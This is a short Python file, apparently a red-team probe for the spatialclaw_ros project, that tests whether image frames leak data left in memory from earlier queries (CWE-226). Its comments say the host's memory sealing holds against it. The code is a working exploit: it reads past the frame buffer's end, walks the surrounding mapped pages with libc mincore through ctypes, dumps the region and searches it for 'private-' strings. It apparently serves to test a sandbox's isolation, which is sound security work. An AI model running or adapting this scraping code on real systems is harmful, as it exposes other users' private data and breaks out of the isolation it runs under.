# Copyright 2026 The spatialclaw_ros authors
#
# Licensed under the Apache License, Version 2.0 (the "License");
# you may not use this file except in compliance with the License.
# You may obtain a copy of the License at
#
#     http://www.apache.org/licenses/LICENSE-2.0
#
# Unless required by applicable law or agreed to in writing, software
# distributed under the License is distributed on an "AS IS" BASIS,
# WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
# See the License for the specific language governing permissions and
# limitations under the License.

"""Frames lie in memory that is kept warm from query to query: look behind the end of the new ones.

Buffers that are reused without being wiped: CWE-226.
"""

# act: leak
# held by: host, memory files are sealed, and written over before the next query

wiped = InputImages[-1].array.tobytes()[-60:]
# %% next session
import ctypes

libc = ctypes.CDLL(None, use_errno=True)
address = InputImages[0].array.ctypes.data & ~4095
libc.mincore.argtypes = (ctypes.c_void_p, ctypes.c_size_t, ctypes.c_char_p)
vector = ctypes.create_string_buffer(1)
first, last = address, address
while libc.mincore(first - 4096, 4096, vector) == 0:
    first -= 4096
while libc.mincore(last, 4096, vector) == 0:
    last += 4096
whole = ctypes.string_at(first, last - first)
print(len(whole), [whole[m:m + 60] for m in [whole.find(b'private-')] if m >= 0])
